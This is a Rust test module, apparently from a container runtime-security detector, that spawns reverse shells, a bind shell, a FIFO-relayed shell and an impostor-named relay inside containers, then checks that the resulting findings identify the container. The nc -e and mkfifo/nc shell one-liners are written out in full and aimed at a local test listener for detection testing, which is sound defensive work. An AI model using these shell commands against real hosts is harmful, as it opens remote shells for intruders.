//! Attacks from inside a container, whichever runtime it is of, and what their findings say of the container.

use std::process::{Command, Stdio};

use crate::common::attacker::{Listener, Session, chosen_port};
use crate::common::daemon::Daemon;
use crate::common::expected::{Expected, prove, prove_session};
use crate::common::finding::Finding;
use crate::common::relayed::{Relayed, prove_relayed};
use crate::common::victim::Victim;

/// The container as findings have to name it.
#[derive(Clone, Copy, Debug)]
pub struct Identity<'a> {
    pub id: &'a str,
    pub runtime: &'a str,
    pub pod_uid: &'a str,
    /// It has a PID namespace of its own.
    pub own_pids: bool,
}

impl<'a> Identity<'a> {
    /// Of a container in no pod.
    pub fn new(id: &'a str, runtime: &'a str) -> Self {
        Self { id, runtime, pod_uid: "", own_pids: true }
    }

    pub fn is_in(&self, found: &Finding) {
        let brief = found.brief();
        assert_eq!(found.text("Container_Id"), self.id, "{brief}");
        assert_eq!(found.text("Container_Runtime"), self.runtime, "{brief}");
        assert_eq!(found.text("Pod_UID"), self.pod_uid, "{brief}");
        assert!(found.text("Cgroup_Path").contains(self.id), "{}", found.text("Cgroup_Path"));
        let containers = found.0["finding"]["containers"].as_array().map(Vec::len);
        assert_eq!(containers, Some(1), "{brief}");
    }
}

/// What starts a command line of sh in a container.
pub type Start<'a> = &'a dyn Fn(&str) -> Command;

fn victim(start: Start, line: &str) -> Victim {
    let mut command = start(line);
    command.stdin(Stdio::null()).stdout(Stdio::null());
    Victim::spawn(command)
}

/// busybox's nc leaves stderr where it was.
fn direct() -> Expected<'static> {
    Expected {
        fds: &[0, 1],
        args: &["/bin/sh"],
        exe: "/bin/busybox",
        other_root: true,
        inner_pid: true,
        ..Expected::default()
    }
}

/// `nc -e`: the shell has the socket.
pub fn reverse_shell(start: Start, identity: Identity) {
    let attacker = Listener::tcp();
    let victim = victim(start, &format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    let found = prove(Daemon::shared(), &attacker, victim, &direct());
    identity.is_in(&found);
}

/// Waits for the attacker, and forks for the connection: busybox's nc has it on its own stdio for a moment before it
/// executes the shell, and is sometimes seen with it.
pub fn bind_shell(start: Start, identity: Identity) {
    let port = chosen_port();
    let victim = victim(start, &format!("/bin/attack serve 127.0.0.1 {port} 1 /bin/sh"));
    let session = Session::dial("127.0.0.1", port);
    let expected = Expected { direction: "inbound", fds: &[0, 1, 2], ..direct() };
    let found = prove_session(Daemon::shared(), session, victim, &expected);
    identity.is_in(&found);
}

/// Through a FIFO: nc has the socket, the shell has pipes.
pub fn fifo_relay(start: Start, identity: Identity) {
    let attacker = Listener::tcp();
    let port = attacker.port();
    // By its path: a name alone is an applet to busybox's sh, which executes itself for it and is called "exe".
    let line = format!("cd /tmp; mkfifo f; /bin/sh <f 2>&1 | /bin/nc 127.0.0.1 {port} >f");
    let victim = victim(start, &line);
    let expected = Relayed {
        exe: "busybox",
        args: &["/bin/sh"],
        inner_pid: true,
        hops: &["sh pipe", "nc pipe", "nc socket"],
        ..Relayed::default()
    };
    let found = prove_relayed(Daemon::shared(), attacker.accept(), victim, &[port], &expected);
    identity.is_in(&found);
}

/// A program with the name of a runtime, or of sshd, that relays a shell: on the host it would be excused.
pub fn impostor(start: Start, identity: Identity, path: &str) {
    let attacker = Listener::tcp();
    let port = attacker.port();
    let victim = victim(start, &format!("{path} 127.0.0.1 {port} /bin/sh"));
    // What the kernel calls it: 15 bytes of its file's name.
    let name = path.rsplit('/').next().unwrap_or_default();
    let name = &name[..name.len().min(15)];
    let hops = ["sh pipe".to_owned(), format!("{name} pipe"), format!("{name} socket")];
    let hops = hops.each_ref().map(String::as_str);
    let expected = Relayed {
        exe: "busybox",
        args: &["/bin/sh"],
        inner_pid: identity.own_pids,
        hops: &hops,
        ..Relayed::default()
    };
    let found = prove_relayed(Daemon::shared(), attacker.accept(), victim, &[port], &expected);
    identity.is_in(&found);
}
